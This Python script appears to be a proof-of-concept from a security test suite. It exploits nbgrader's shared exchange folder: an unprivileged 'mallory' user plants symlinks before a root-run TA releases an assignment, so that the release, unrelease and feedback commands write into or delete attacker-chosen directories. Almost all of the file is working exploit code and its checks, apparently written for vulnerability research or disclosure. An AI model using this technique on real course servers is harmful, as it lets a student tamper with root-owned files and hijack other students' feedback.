"""a04: a03 where the exchange's root is sticky (1777: a student cannot move the TA's course folder), so mallory
(uid 65534) squats the course's name before the TA's first release (a new course, a new semester's exchange):
    exchange/distcourse -> .     exchange/outbound -> VICTIM     exchange/feedback -> VICTIM2
Then the TA (root) runs `nbgrader release_assignment ps1_memory`, `nbgrader list --remove ps1_memory` (Formgrader's
"Unrelease" button), and `nbgrader release_feedback ps1_memory` with a feedback folder as nbgrader's
generate_feedback leaves it (timestamp.txt, submission_secret.txt, the page). This host has
fs.protected_symlinks = 0 (printed): where it is 1, root does not follow another user's link in a sticky
world-writable folder, and only a03 (the docs' 0777 root) works."""
import os, subprocess, shutil, sys
from harness import *

ROOT = "/tmp/attack46-root-a04-ex"
shutil.rmtree(ROOT, ignore_errors=True)
d = course("a04")
ex = f"{ROOT}/exchange"
os.makedirs(ex); os.chmod(ex, 0o1777); os.chmod(ROOT, 0o755)
print("fs.protected_symlinks =", open("/proc/sys/fs/protected_symlinks").read().strip())
victim, victim2 = "tests/attacks/round46/a04_victim_rootdir", "tests/attacks/round46/a04_victim_rootdir2"
for v in (victim, victim2):
    shutil.rmtree(v, ignore_errors=True); os.makedirs(v, mode=0o755)
NB = ["--Exchange.root=" + ex, "--CourseDirectory.course_id=distcourse"]
def ta(*args):
    r = subprocess.run([f"{CLONE}/.venv/bin/nbgrader", *args, *NB], cwd=d, env=ENV, capture_output=True, text=True)
    print("$ nbgrader", " ".join(args), "->", r.returncode)
    print("   ", "\n    ".join(l for l in (r.stdout + r.stderr).strip().splitlines() if "standardizing" not in l)[-1200:])
def student(script):
    r = subprocess.run(["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", sys.executable, "-c", script],
                       capture_output=True, text=True, env={"PATH": "/usr/bin:/bin"})
    print("student:", r.returncode, r.stdout.strip(), r.stderr.strip()[-500:])
print("== mallory squats before the first release")
student(f'''
import os
os.symlink(".", "{ex}/distcourse"); os.symlink("{victim}", "{ex}/outbound"); os.symlink("{victim2}", "{ex}/feedback")
print(sorted(os.listdir("{ex}")))''')
ta("release_assignment", "ps1_memory")
print("VICTIM:", subprocess.run(["find", victim, "-printf", "%u %m %p\\n"], capture_output=True, text=True).stdout)
open(f"{victim}/ps1_memory/root-data.txt", "w").write("x")
ta("list", "--remove", "ps1_memory")
print("VICTIM/ps1_memory after `list --remove`:", os.path.exists(f"{victim}/ps1_memory"))
# a feedback folder as nbgrader generate_feedback leaves it
fb = f"{d}/feedback/aaron/ps1_memory"
os.makedirs(fb)
open(f"{fb}/ps1_memory.html", "w").write("<html>aaron's feedback</html>")
open(f"{fb}/timestamp.txt", "w").write("2026-11-29 10:00:00.000000 UTC")
open(f"{fb}/submission_secret.txt", "w").write("0123456789abcdef")
ta("release_feedback", "ps1_memory")
print("VICTIM2:", subprocess.run(["find", victim2, "-printf", "%u %m %p\\n"], capture_output=True, text=True).stdout)
shutil.rmtree(ROOT); shutil.rmtree(d)
